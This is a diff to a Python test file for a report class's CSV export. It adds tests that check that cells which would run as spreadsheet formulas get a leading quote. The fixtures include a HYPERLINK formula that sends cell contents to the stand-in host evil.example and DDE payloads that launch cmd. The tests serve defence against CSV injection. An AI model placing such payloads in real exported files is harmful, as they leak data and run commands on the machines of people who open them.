@@ -260,14 +260,55 @@ def test_identifier_named_like_a_report_column_is_renamed():
 
 def test_to_csv_round_trip(tmp_path):
     report = _report()
-    path = report.to_csv(tmp_path / "report.csv")
+    path = report.to_csv(tmp_path / "report.csv", raw=True)
     back = pd.read_csv(path, index_col=0, keep_default_na=False, dtype={"http_status": "Int64"})
     assert back.index.tolist() == ["r1", "r2", "r1", "r4"]
     assert back["phone"].tolist() == report.table["phone"].tolist()
     assert back["http_status"].tolist() == [202, pd.NA, 400, pd.NA]
     assert "12015550123" not in path.read_text(encoding="utf-8")
     clear = report.to_csv(tmp_path / "clear.csv", unmasked=True).read_text(encoding="utf-8")
-    assert "+12015550123" in clear
+    assert "'+12015550123" in clear
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def _hostile_report() -> SendReport:
+    data = pd.DataFrame(
+        {"phone": ["+12015550123", "-12015550100"], "note": ["@SUM(1+1)", "\t=1+1"]},
+        index=[HOSTILE, "\r=cmd|' /C calc'!A0"],
+    )
+    outcomes = [
+        RowOutcome(0, "sent", 202, "", 1, 1.0),
+        RowOutcome(1, "rejected", 400, "+cmd|' /C calc'!A0"),
+    ]
+    ids = data[["phone"]].rename(columns={"phone": "=phone"})
+    return SendReport(data, ids, outcomes, kind="subscribe")
+
+
+def _cells(path) -> list[str]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+@pytest.mark.parametrize("unmasked", [False, True])
+def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote(tmp_path, unmasked):
+    report = _hostile_report()
+    cells = _cells(report.to_csv(tmp_path / "r.csv", unmasked=unmasked))
+    assert f"'{HOSTILE}" in cells and "'+cmd|' /C calc'!A0" in cells and "'=phone" in cells
+    assert "'\r=cmd|' /C calc'!A0" in cells
+    phones = ["'+12015550123", "'-12015550100"] if unmasked else ["'+1•••", "'-1•••"]
+    assert set(phones) <= set(cells)
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert report.table.index[0] == HOSTILE  # the DataFrame itself stays raw
+    assert report.table["reason"].iloc[1] == "+cmd|' /C calc'!A0"
+
+
+def test_csv_raw_writes_every_value_as_it_is(tmp_path):
+    cells = _cells(_hostile_report().to_csv(tmp_path / "r.csv", unmasked=True, raw=True))
+    assert {HOSTILE, "+cmd|' /C calc'!A0", "=phone", "+12015550123"} <= set(cells)
 
 
 def test_repr_is_a_short_summary():
